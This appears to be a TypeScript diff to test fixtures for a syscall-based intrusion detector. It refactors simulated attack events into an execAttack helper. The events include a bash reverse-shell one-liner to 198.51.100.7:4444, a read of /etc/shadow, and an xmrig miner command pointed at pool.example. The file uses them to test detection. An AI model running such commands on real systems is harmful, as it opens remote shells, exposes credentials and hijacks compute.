@@ -56,25 +56,24 @@ const cmds = [
   ['date', '+%s'],
   ['cat', '/proc/loadavg'],
 ];
-const attacks: Array<(e: SyscallEvent) => void> = [
-  (e) => {
+/** An attack that turns the event into an execve of `exepath` with `args` (the name is argv[0]). */
+const execAttack =
+  (exepath: string, args: string[]) =>
+  (e: SyscallEvent): void => {
     e.type = 'execve';
-    e.proc.name = 'bash';
-    e.proc.args = ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'];
-    e.proc.exepath = '/bin/bash';
-  },
+    e.proc.name = args[0]!;
+    e.proc.args = [...args];
+    e.proc.exepath = exepath;
+  };
+const attacks: Array<(e: SyscallEvent) => void> = [
+  execAttack('/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1']),
   (e) => {
     e.type = 'openat';
     e.args = { dirfd: -100, name: '/etc/shadow', flags: 0 };
     e.fd = { num: 5, type: 'file', name: '/etc/shadow' };
     e.proc.name = 'cat';
   },
-  (e) => {
-    e.type = 'execve';
-    e.proc.name = 'xmrig';
-    e.proc.args = ['xmrig', '-o', 'stratum+tcp://pool.example:3333'];
-    e.proc.exepath = '/tmp/xmrig';
-  },
+  execAttack('/tmp/xmrig', ['xmrig', '-o', 'stratum+tcp://pool.example:3333']),
   (e) => {
     e.type = 'setns';
   },
